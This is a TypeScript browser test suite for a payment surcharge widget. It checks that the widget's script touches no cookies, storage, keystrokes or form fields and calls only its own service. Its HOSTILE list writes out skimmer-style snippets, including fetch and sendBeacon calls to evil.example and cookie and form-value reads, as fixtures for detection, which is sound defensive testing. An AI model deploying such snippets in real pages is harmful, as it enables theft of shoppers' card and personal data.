/**
 * What the element's script reads, listens to, sends and keeps while a shopper buys with a surcharge: `docs/pci.md` says it, and
 * this holds it, by the built file in the sample shop.
 */
import { beforeEach, expect, test } from "vitest";
import { accept, page, paid, pay, payAs, VISA_CREDIT, visit } from "../support/shopper/sample-shop.ts";
import { origins, typeCard } from "../support/shopper/shopper.ts";
import { NOTES, watchScript } from "../support/shopper/watched-script.ts";

const WATCHED = { script: "/widget/", tag: "card-surcharge", notes: NOTES };

beforeEach(() => visit({}, (page) => page.addInitScript(watchScript, WATCHED)));

/** What was noticed so far. */
const notes = async () =>
  (await page.evaluate((name) => (window as unknown as Record<string, string[]>)[name] ?? [], NOTES)).toSorted();

test("reads no cookie, storage, key or field of the page, and asks the service alone", async () => {
  const asked: string[] = [];
  const session = await page.context().newCDPSession(page);
  await session.send("Network.enable");
  // The browser's own account of who asked.
  session.on("Network.requestWillBeSent", ({ request, initiator }) => {
    if (JSON.stringify(initiator.stack ?? {}).includes(WATCHED.script)) asked.push(request.url);
  });
  await page.reload();
  await page.getByLabel("Street").fill("1 Elsewhere");
  await page.getByLabel("City").pressSequentially("Peoria");
  await typeCard(page, { number: VISA_CREDIT });
  await payAs("Pay $125.00").click();
  await accept().click();
  await payAs("Pay $128.75").waitFor();
  const found = await notes();
  await pay().click();
  await paid();

  expect(found).toEqual([
    // The language of the place in the page where it stands, and its own hidden inputs.
    'MutationObserver calls observe around it {"attributeFilter":["lang"]}',
    'MutationObserver calls observe html {"attributeFilter":["lang"]}',
    "MutationObserver calls observe on itself",
    // Whether somebody is there, and where the focus is: which key it was is never asked.
    "document calls addEventListener focusin",
    // Its own entries in the form that it stands in.
    "form calls addEventListener formdata",
    "window calls addEventListener blur",
    "window calls addEventListener focus",
    "window calls addEventListener keydown",
    // The gateway's frame and the security check's: each by window and origin.
    "window calls addEventListener message",
    "window calls addEventListener pageshow",
    "window calls addEventListener pointerdown",
    `window calls fetch ${origins().product}`,
  ]);
  expect(asked.length).toBeGreaterThan(1);
  expect(asked.filter((address) => new URL(address).origin !== origins().product)).toEqual([]);
});

/** What no script but a hostile one would do, each with the note that it must leave. */
const HOSTILE: readonly (readonly [code: string, told: string])[] = [
  ["document.cookie", "document reads cookie"],
  ["document.cookie = 'a=b'", "document writes cookie"],
  ["localStorage.setItem('a', 'b')", "window reads localStorage"],
  ["indexedDB", "window reads indexedDB"],
  ["fetch('https://evil.example/').catch(() => {})", "window calls fetch https://evil.example"],
  ["navigator.sendBeacon('https://evil.example/')", "Navigator calls sendBeacon"],
  ["new XMLHttpRequest().open('GET', '/')", "XMLHttpRequest calls open"],
  ["new Image()", "window makes a Image"],
  ["document.addEventListener('keyup', () => {})", "document calls addEventListener keyup"],
  ["new KeyboardEvent('keydown', { key: '4' }).key", "KeyboardEvent reads key"],
  ["new InputEvent('input', { data: '4' }).data", "InputEvent reads data"],
  ["document.querySelector('[name=city]')", "document calls querySelector [name=city]"],
  ["document.forms[0].elements", "document reads forms"],
  ["document.body.firstElementChild.innerHTML", " reads innerHTML"],
  ["new FormData(document.querySelector('form'))", "window makes a FormData"],
  ["document.querySelector('[name=city]').value", "input reads value"],
  ["new MutationObserver(() => {}).observe(document.body, { subtree: true, childList: true })", "subtree"],
];

test("would have been noticed at any of that", async () => {
  const unnoticed: string[] = [];
  for (const [code, told] of HOSTILE) {
    await page.evaluate(`(() => { ${code}; })()\n//# sourceURL=https://service.example/widget/1.0.0/hostile.js`);
    if (!(await notes()).some((line) => line.includes(told))) unnoticed.push(code);
  }
  expect(unnoticed).toEqual([]);
  // What others do is none of it.
  await page.evaluate("document.querySelector('[name=street]')\n//# sourceURL=https://shop.example/checkout.js");
  expect((await notes()).filter((line) => line.includes("street"))).toEqual([]);
});
